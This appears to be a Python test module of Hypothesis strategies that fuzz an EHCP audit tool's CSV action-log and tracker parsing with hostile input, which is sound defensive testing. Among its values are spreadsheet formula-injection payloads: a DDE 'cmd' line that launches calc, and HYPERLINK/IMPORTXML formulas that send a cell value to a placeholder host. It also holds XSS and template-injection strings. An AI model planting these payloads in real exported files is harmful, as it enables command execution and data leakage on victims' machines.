"""Hypothesis strategies for hostile input (issue 16): cell values an attacker or a careless
export would put in a file, action logs carrying them, the shapes a CSV can take, and
review trackers in the Capita One-like layout of data/samples/trackers/."""

from __future__ import annotations

import csv
import io
import random
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any

from hypothesis import strategies as st

from ehcp_audit.domain.vocabulary import COLUMNS
from tests.strategies import Row, action_log

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    'HYPERLINK("https://example.invalid/?id="&A2,"Open")',
    "1+2",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    "2+3+cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("https://example.invalid/?",A2),"//a")',
)
MARKUP = "<script>alert(1)</script>"
MARKUPS = (MARKUP, '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "</td></tr></table>&amp;")
EXTREME_DATES = (
    "0001-01-01",
    "0001-01-05",
    "1899-12-31",
    "1900-01-01",
    "9999-12-31",
    "31/02/2024",
    "2024-02-30",
    "00/00/0000",
    "29/02/2023",
    "-2024-01-01",
    "=TODAY()",
    "2024-1-1",
)
# Child ids the contract accepts (1-32 of A-Z a-z 0-9 - _ /) that a spreadsheet reads as a
# formula or a number, and ids it must reject.
VALID_HOSTILE_IDS = ("-1", "-12", "-1-2", "--2", "-A1", "/x", "-0", "-SUM", "-" + "9" * 31)
INVALID_IDS = ("-1+2", "=1+2", "@SUM(A1)", "+44", "A" * 33, "B" * 5000, "x\x1by", "Zoë", " ")
UNKNOWN_COLUMNS = ("notes", "=HYPERLINK(A1)", "Child ID", "child_id ", "")

formulas = st.builds(
    lambda prefix, payload: prefix + payload,
    st.sampled_from(FORMULA_PREFIXES),
    st.sampled_from(PAYLOADS),
)
control_text = st.text(
    alphabet=st.sampled_from("\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\t\r\nab ="), min_size=1
).map(lambda s: "x" + s)
unicode_text = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
    min_size=1,
    max_size=40,
)
long_text = st.integers(33, 6000).map(lambda n: ("long text; " * (n // 11 + 1))[:n])
free_text: st.SearchStrategy[str] = st.one_of(
    formulas,
    formulas,
    control_text,
    unicode_text,
    st.sampled_from(MARKUPS),
    long_text,
    st.sampled_from(("", "moved out of area", "-", "+", "=", "@")),
)
child_ids = st.one_of(
    st.sampled_from(VALID_HOSTILE_IDS),
    st.from_regex(r"[-/][A-Za-z0-9_/-]{0,31}", fullmatch=True),
    st.sampled_from(INVALID_IDS),
)
dates = st.sampled_from(EXTREME_DATES)


def now_and_then(one_in: int) -> st.SearchStrategy[bool]:
    """True about once in `one_in` draws (hypothesis favours small and repeated choices, so
    `sampled_from` with repeats and `one_of` of equal branches do not give these odds)."""
    return st.integers(0, 2**20).map(lambda n: n % one_in == one_in // 2)


DATE_OF = {
    "plan_issued": "date_of_birth",
    "review_scheduled": "meeting_on",
    "void": "void_occurred_on",
}


def _day_after(rows: list[Row], child: str) -> date:
    last = max(date.fromisoformat(r["occurred_on"]) for r in rows if r["child_id"] == child)
    return max(last + timedelta(days=1), date(2025, 1, 2))


@st.composite
def hostile_rows(draw: Any) -> list[Row]:
    """A valid action log (tests/strategies.py) with hostile values put in most of it: ids,
    free text (school_name, recorded_by, reason, outcome), dates and codes."""
    rows = [dict(r) for r in draw(action_log(max_children=3))]
    children = sorted({r["child_id"] for r in rows})
    for child in children:
        extra = _day_after(rows, child).isoformat()
        if draw(st.booleans()):
            rows.append({"child_id": child, "action": "appeal_lodged", "occurred_on": extra})
            outcome = {"outcome": draw(free_text)}
            rows.append(
                {"child_id": child, "action": "appeal_concluded", "occurred_on": extra, **outcome}
            )
        if draw(st.integers(0, 2)) == 0:
            reason = {"reason": draw(free_text)}
            rows.append(
                {"child_id": child, "action": "plan_ceased", "occurred_on": extra, **reason}
            )
    for row in rows:
        if draw(st.booleans()):
            row["recorded_by"] = draw(free_text)
        if row["action"] in ("plan_issued", "placement_changed"):
            row["school_name"] = draw(free_text)
        if row["action"] == "plan_ceased" and draw(st.booleans()):
            row["reason"] = draw(free_text)
    if draw(now_and_then(3)):
        rows[-1]["action"] = draw(st.sampled_from(("=cmd|'/C calc'!A0", " Plan_Ceased ", "")))
    if draw(now_and_then(3)):
        # The null date of .NET exports, as a booked meeting (issue 16, item 3).
        first = {k: rows[0][k] for k in ("child_id", "occurred_on")}
        rows.append({**first, "action": "review_scheduled", "meeting_on": draw(dates)})
    for _ in range(draw(st.integers(0, 2))):
        row = rows[draw(st.integers(0, len(rows) - 1))]
        row[DATE_OF.get(row["action"], "occurred_on")] = draw(dates)
    renamed = {c: draw(child_ids) for c in children if draw(st.booleans())}
    for row in rows:
        row["child_id"] = renamed.get(row["child_id"], row["child_id"])
    return rows


@dataclass(frozen=True)
class Shape:
    """How an action log is laid out as bytes: the ways real files differ and break (each
    break rare enough that most files still reach the exports)."""

    bom: bool
    newline: str
    quote_all: bool
    seed: int
    unknown_column: str | None
    drop_optional: bool
    blank_lines: int
    ragged: int
    nul_at: int | None


def _sometimes(value: st.SearchStrategy[Any], one_in: int) -> st.SearchStrategy[Any]:
    return st.tuples(now_and_then(one_in), value).map(lambda t: t[1] if t[0] else None)


shapes = st.builds(
    Shape,
    bom=st.booleans(),
    newline=st.sampled_from(("\n", "\r\n")),
    quote_all=st.booleans(),
    seed=st.integers(0, 2**16),
    unknown_column=_sometimes(st.sampled_from(UNKNOWN_COLUMNS), 10),
    drop_optional=st.booleans(),
    blank_lines=st.integers(0, 3),
    ragged=_sometimes(st.sampled_from((1, -1)), 12).map(lambda r: r or 0),
    nul_at=_sometimes(st.integers(0, 10**6), 10),
)


def action_log_bytes(rows: list[Row], shape: Shape) -> bytes:
    """The rows as an action-log CSV in the given shape."""
    rng = random.Random(shape.seed)
    used = {c for r in rows for c in r}
    header = [c for c in COLUMNS if c in used or not shape.drop_optional]
    rng.shuffle(header)
    if shape.unknown_column is not None:
        header.append(shape.unknown_column)
    buffer = io.StringIO()
    writer = csv.writer(
        buffer,
        lineterminator=shape.newline,
        quoting=csv.QUOTE_ALL if shape.quote_all else csv.QUOTE_MINIMAL,
    )
    writer.writerow(header)
    lines = [buffer.getvalue()]
    for row in rows:
        buffer.seek(0)
        buffer.truncate()
        cells = [row.get(c, "") for c in header]
        if shape.ragged and rng.random() < 0.2:
            cells = [*cells, "extra"] if shape.ragged > 0 else cells[:-1]
        writer.writerow(cells)
        lines.append(buffer.getvalue())
    for _ in range(shape.blank_lines):
        lines.insert(rng.randint(1, len(lines)), shape.newline)
    text = "".join(lines)
    if shape.nul_at is not None:
        at = shape.nul_at % (len(text) + 1)
        text = text[:at] + "\x00" + text[at:]
    return ("\ufeff" if shape.bom else "").encode() + text.encode("utf-8", "surrogatepass")


garbage_text = st.lists(
    st.lists(
        st.one_of(st.sampled_from(COLUMNS), free_text, st.sampled_from(('"', '""', ",", "\r"))),
        max_size=6,
    ),
    min_size=1,
    max_size=6,
).map(lambda lines: "\n".join(",".join(cells) for cells in lines).encode("utf-8", "replace"))
over_limit = st.integers(131_073, 140_000).map(
    lambda n: ("child_id,action,occurred_on,reason\nX1,plan_ceased,2024-01-01," + "r" * n).encode()
)
unterminated = st.just(
    b"child_id,action,occurred_on,date_of_birth,school_urn,reason\n"
    b'A1,plan_issued,2024-01-10,2012-05-10,123456,"never closed\n'
    b"A2,plan_issued,2024-01-10,2012-05-10,123456,\n"
)
garbage: st.SearchStrategy[bytes] = st.one_of(
    st.binary(max_size=600), garbage_text, over_limit, unterminated
)


# -- trackers (the columns of data/samples/trackers/capita_one.toml) -------------------------
TRACKER_DATES = (
    "EHCP Finalised Date",
    "Annual Review Due Date",
    "Review Meeting Planned Date",
    "Invitations Sent Date",
    "Reports Circulated Date",
    "Review Meeting Date",
    "Review Report Received Date",
    "Outcome Letter Sent Date",
    "Proposed Amendments Sent Date",
    "Final Amended EHCP Issued Date",
    "EHCP Ceased Date",
)
TRACKER_HEADER = (
    "Person ID",
    "Date of Birth",
    "Establishment URN",
    "Establishment Name",
    "Placement Start Date",
    "Caseworker",
    *TRACKER_DATES[:8],
    "Review Outcome",
    *TRACKER_DATES[8:],
    "Ceasing Reason",
)
OUTCOMES = ("Continue - No Amendments", "Continue - Amendments", "Cease EHCP", "")


@st.composite
def tracker_row(draw: Any, number: int) -> dict[str, str]:
    """One child's tracker row: dates in order from the plan, some cells made hostile."""
    plan = draw(st.dates(date(2019, 1, 1), date(2024, 6, 30)))
    steps = [plan + timedelta(days=300 + 30 * i) for i in range(len(TRACKER_DATES) - 1)]
    filled = draw(st.integers(1, len(TRACKER_DATES)))
    row = dict.fromkeys(TRACKER_HEADER, "")
    row.update(
        {
            "Person ID": draw(st.one_of(st.just(f"CP-{number:06d}"), child_ids)),
            "Date of Birth": draw(st.dates(date(2006, 1, 1), plan)).strftime("%d/%m/%Y"),
            "Establishment URN": draw(st.sampled_from(("123456", "100300", "12345", "=1+2"))),
            "Establishment Name": draw(free_text),
            "Caseworker": draw(free_text),
            "Review Outcome": draw(st.one_of(st.sampled_from(OUTCOMES), free_text)),
            "Ceasing Reason": draw(free_text),
        }
    )
    for column, day in zip(TRACKER_DATES[:filled], [plan, *steps], strict=False):
        row[column] = day.isoformat() + " 00:00:00"
    for _ in range(draw(st.integers(0, 2))):
        row[draw(st.sampled_from(TRACKER_DATES))] = draw(dates)
    return row


trackers = st.integers(1, 4).flatmap(
    lambda n: st.tuples(*(tracker_row(i) for i in range(n))).map(list)
)
